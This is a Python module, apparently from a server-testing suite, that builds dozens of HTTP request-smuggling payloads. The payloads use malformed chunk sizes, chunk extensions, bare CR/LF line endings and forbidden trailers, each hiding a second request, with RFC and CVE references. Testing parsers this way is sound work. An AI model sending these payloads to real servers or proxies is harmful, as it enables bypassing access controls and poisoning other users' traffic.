"""Techniques of the chunked coding: sizes, extensions, line ends, trailers.

Where nothing else is said the body is one chunk that holds the hidden request: a parser that reads the size as
something smaller, or the line as ended somewhere else, meets a request.
"""

from loadtests.smuggling.techniques.parts import CHUNKED, HIDDEN, LAST_CHUNK, POST, Technique, chunk

_HEAD = POST + CHUNKED + b"\r\n"
_SIZE = b"%x" % len(HIDDEN)

_SIZES: dict[str, bytes] = {
    "plus sign": b"+" + _SIZE,
    "minus sign": b"-" + _SIZE,
    "0x": b"0x" + _SIZE,
    "underscore": _SIZE[:1] + b"_" + _SIZE[1:],
    "space before": b" " + _SIZE,
    "space behind": _SIZE + b" ",
    "tab behind": _SIZE + b"\t",
    "space inside": _SIZE[:1] + b" " + _SIZE[1:],
    "NUL behind": _SIZE + b"\0",
    "letter behind": _SIZE + b"g",
    "comma": _SIZE + b",0",
    "point": _SIZE + b".0",
    "empty": b"",
    "64 bits and the size": b"10000000000000000"[: -len(_SIZE)] + _SIZE,
    "32 bits and the size": b"100000000"[: -len(_SIZE)] + _SIZE,
    "all ones": b"ffffffffffffffff",
    "minus one": b"-1",
    "fullwidth digits": "\uff13\uff14".encode(),
    "NEL behind": _SIZE + b"\x85",
}

_SIZE_SOURCE = "RFC 9112 7.1"
_EXTENSION_SOURCE = "RFC 9112 7.1.1, CVE-2025-55315, CVE-2025-22871, Weikop 2025 (Funky Chunks)"


def _sizes() -> tuple[Technique, ...]:
    waits = {"32 bits and the size", "all ones", "64 bits and the size"}
    written = (
        Technique("chunk size", name, _SIZE_SOURCE, (_HEAD + size + b"\r\n" + HIDDEN + b"\r\n" + LAST_CHUNK,),
                  waits=name in waits)
        for name, size in _SIZES.items()
    )  # fmt: skip
    return (
        *written,
        Technique("chunk size", "leading zeros", _SIZE_SOURCE,
                  (_HEAD + b"0000000" + _SIZE + b"\r\n" + HIDDEN + b"\r\n" + LAST_CHUNK,)),
        Technique("chunk size", "several zeros", _SIZE_SOURCE, (_HEAD + b"000\r\n\r\n" + HIDDEN,), pipelined=True),
        Technique("chunk size", "last chunk -0", _SIZE_SOURCE, (_HEAD + b"-0\r\n\r\n" + HIDDEN,)),
    )  # fmt: skip


_EXTENSIONS: dict[str, bytes] = {
    "bare LF": b";\n",
    "bare LF in the value": b";a=b\n",
    "bare CR": b";a\rb",
    "bare CR before CR LF": b";a\r",
    "NUL": b";a\0b",
    "empty": b";",
    "name empty": b";=b",
    "space before the name": b"; a=b",
    "space before the semicolon": b" ;a=b",
    "open quote": b';a="b',
    "control character in quotes": b';a="\x01"',
    "LF in quotes": b';a="\n"',
    "high byte in the name": b";\xff",
    "equals without a name": b"=b",
    "2 KiB": b";a=" + b"b" * 2048,
}


def _extensions() -> tuple[Technique, ...]:
    written = (
        Technique("chunk extension", name, _EXTENSION_SOURCE,
                  (_HEAD + _SIZE + extension + b"\r\n" + HIDDEN + b"\r\n" + LAST_CHUNK,))
        for name, extension in _EXTENSIONS.items()
    )  # fmt: skip
    # TERM.EXT and EXT.TERM: one side ends the line at LF, the other one takes the rest for the extension.
    hidden_line = b"2;\nxx\r\n%x\r\n" % (len(HIDDEN) + 5) + LAST_CHUNK + HIDDEN + b"\r\n" + LAST_CHUNK
    return (
        *written,
        Technique("chunk extension", "TERM.EXT", _EXTENSION_SOURCE, (_HEAD + hidden_line,)),
        Technique("chunk extension", "TERM.EXT with CR", _EXTENSION_SOURCE,
                  (_HEAD + hidden_line.replace(b";\n", b";\r"),)),
        Technique("chunk extension", "by the grammar", "RFC 9112 7.1.1",
                  (_HEAD + _SIZE + b';a=b;c="d;e";f\r\n' + HIDDEN + b"\r\n" + LAST_CHUNK,)),
        Technique("chunk extension", "of the last chunk", "RFC 9112 7.1.1", (_HEAD + b"0;a=b\r\n\r\n" + HIDDEN,),
                  pipelined=True),
        Technique("chunk extension", "bare LF at the last chunk", _EXTENSION_SOURCE, (_HEAD + b"0;a\n\r\n" + HIDDEN,)),
    )  # fmt: skip


def _line_ends() -> tuple[Technique, ...]:
    source = "RFC 9112 7.1, CVE-2025-43859"
    whole = _SIZE + b"\r\n" + HIDDEN
    return (
        Technique("chunk line end", "size by LF", source, (_HEAD + _SIZE + b"\n" + HIDDEN + b"\r\n" + LAST_CHUNK,)),
        Technique("chunk line end", "size by CR", source, (_HEAD + _SIZE + b"\r" + HIDDEN + b"\r\n" + LAST_CHUNK,)),
        Technique("chunk line end", "size by CR CR LF", source,
                  (_HEAD + _SIZE + b"\r\r\n" + HIDDEN + b"\r\n" + LAST_CHUNK,)),
        Technique("chunk line end", "size by LF CR", source,
                  (_HEAD + _SIZE + b"\n\r" + HIDDEN + b"\r\n" + LAST_CHUNK,)),
        Technique("chunk line end", "content by LF", source, (_HEAD + whole + b"\n" + LAST_CHUNK,)),
        Technique("chunk line end", "content by CR", source, (_HEAD + whole + b"\r" + LAST_CHUNK,)),
        Technique("chunk line end", "content by nothing", source, (_HEAD + whole + LAST_CHUNK,)),
        Technique("chunk line end", "content by any two bytes", "CVE-2025-43859",
                  (_HEAD + whole + b"XX" + LAST_CHUNK,)),
        Technique("chunk line end", "content longer than its size", source,
                  (_HEAD + b"5\r\nhelloworld\r\n" + LAST_CHUNK + HIDDEN,)),
        Technique("chunk line end", "content spills a size", source,
                  (_HEAD + b"3\r\nabc%x\r\n" % (len(HIDDEN) + 5) + LAST_CHUNK + HIDDEN + b"\r\n" + LAST_CHUNK,)),
        Technique("chunk line end", "last chunk by LF", source, (_HEAD + b"0\n\n" + HIDDEN,)),
        Technique("chunk line end", "trailers by LF", source, (_HEAD + b"0\r\n\n" + HIDDEN,)),
        Technique("chunk line end", "trailers by CR", source, (_HEAD + b"0\r\n\r" + HIDDEN,)),
        Technique("chunk line end", "blank line before a size", source,
                  (_HEAD + b"\r\n" + chunk(HIDDEN) + LAST_CHUNK,)),
        Technique("chunk line end", "line without an end", source, (_HEAD + b"0\r\nX: y",), waits=True),
    )  # fmt: skip


_TRAILERS: dict[str, bytes] = {
    "Content-Length": b"Content-Length: 44",
    "Transfer-Encoding": b"Transfer-Encoding: chunked",
    "Host": b"Host: hidden.example",
    "Connection": b"Connection: X-Forwarded-For",
    "Authorization": b"Authorization: Basic aGlkZGVu",
    "Trailer": b"Trailer: Host",
    "obs-fold": b"X: y\r\n z",
    "space before the colon": b"X : y",
    "no colon": b"GET /up/hidden/000 HTTP/1.1",
    "empty name": b": y",
    "NUL": b"X: \0",
    "bare LF": b"X: y\nHost: hidden.example",
    "bare CR": b"X: y\rHost: hidden.example",
}

_DROPPED: dict[str, bytes] = {
    "X-Forwarded-For": b"X-Forwarded-For: 6.6.6.6",
    "X-Request-Id": b"X-Request-Id: hidden",
    "Cookie": b"Cookie: hidden=1",
    "X_Forwarded_For": b"X_Forwarded_For: 6.6.6.6",
    "ordinary field": b"X-Checksum: abc",
}


def _trailers() -> tuple[Technique, ...]:
    source = "RFC 9110 6.5.1"
    body = chunk(b"abc") + b"0\r\n"
    refused = (
        Technique("trailer", name, source, (_HEAD + body + line + b"\r\n\r\n" + HIDDEN,))
        for name, line in _TRAILERS.items()
    )
    taken = (
        Technique("trailer", name, source, (_HEAD + body + line + b"\r\n\r\n" + HIDDEN,), pipelined=True)
        for name, line in _DROPPED.items()
    )
    announced = POST + CHUNKED + b"Trailer: Content-Length, Host\r\nTE: trailers\r\nConnection: TE\r\n\r\n"
    return (
        *refused,
        *taken,
        Technique("trailer", "announced framing", source, (announced + body + b"\r\n" + HIDDEN,), pipelined=True),
        Technique(
            "trailer", "more than the limit", source, (_HEAD + body + b"X: %b\r\n\r\n" % (b"y" * 20_000) + HIDDEN,)
        ),
    )


CHUNKS = (*_sizes(), *_extensions(), *_line_ends(), *_trailers())
